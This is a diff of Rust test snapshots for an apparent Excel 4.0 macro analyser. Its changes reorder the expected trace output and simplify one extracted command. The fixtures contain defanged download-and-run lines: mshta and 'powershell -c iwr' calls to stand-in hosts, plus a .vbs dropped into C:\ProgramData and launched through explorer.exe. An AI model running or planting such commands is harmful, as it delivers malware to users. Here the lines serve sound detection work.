@@ -214,14 +214,14 @@ fn both_ways_where_only_the_machine_knows() {
         expect![[r#"
             entry Open Macro1.Auto_Open:1
             Process Macro1:2 EXEC(mshta hxxp://seven[.]example/a) [Auto_Open]
-            Process Macro1:4 EXEC(mshta hxxp://other[.]example/a) [Auto_Open]
             Process Macro1:1 EXEC(wscript one.vbs) [Auto_Open]
+            Process Macro1:4 EXEC(mshta hxxp://other[.]example/a) [Auto_Open]
             Process Macro1:1 EXEC(wscript two.vbs) [Auto_Open]
             command Macro1!R2C1 SystemBinary mshta hxxp://seven[.]example/a
               hxxp://seven[.]example/a
+            command Macro1!R1C2 ScriptHost wscript one.vbs
             command Macro1!R4C1 SystemBinary mshta hxxp://other[.]example/a
               hxxp://other[.]example/a
-            command Macro1!R1C2 ScriptHost wscript one.vbs
             command Macro1!R1C3 ScriptHost wscript two.vbs
         "#]],
     );
@@ -296,7 +296,7 @@ fn a_script_written_line_by_line() {
             Write Macro1:1 FOPEN(C:\ProgramData\a.vbs) [Auto_Open]
             Process Macro1:5 EXEC(explorer.exe C:\ProgramData\a.vbs) [Auto_Open]
             command Macro1!R5C1 Other explorer.exe C:\ProgramData\a.vbs
-            command Macro1!R1C1 PowerShell x.Run "powershell -c iwr hxxp://script[.]example/q", 0
+            command Macro1!R1C1 PowerShell powershell -c iwr hxxp://script[.]example/q
               hxxp://script[.]example/q
         "#]],
     );
@@ -327,14 +327,14 @@ fn macros_that_start_later_and_by_text() {
         expect![[r#"
             entry Open Macro1.Auto_Open:1
             Other Macro1:1 ON.TIME(later) [Auto_Open]
-            Process Macro1:1 EXEC(cscript later.vbs) [Auto_Open]
             Process Macro1:1 EXEC(cscript text.vbs) [Auto_Open]
             Process Macro1:1 EXEC(cscript name.vbs) [Auto_Open]
             Process Macro1:1 EXEC(cscript place.vbs) [Auto_Open]
-            command Macro1!R1C2 ScriptHost cscript later.vbs
+            Process Macro1:1 EXEC(cscript later.vbs) [Auto_Open]
             command Macro1!R1C4 ScriptHost cscript text.vbs
             command Macro1!R1C5 ScriptHost cscript name.vbs
             command Macro1!R1C6 ScriptHost cscript place.vbs
+            command Macro1!R1C2 ScriptHost cscript later.vbs
         "#]],
     );
 }
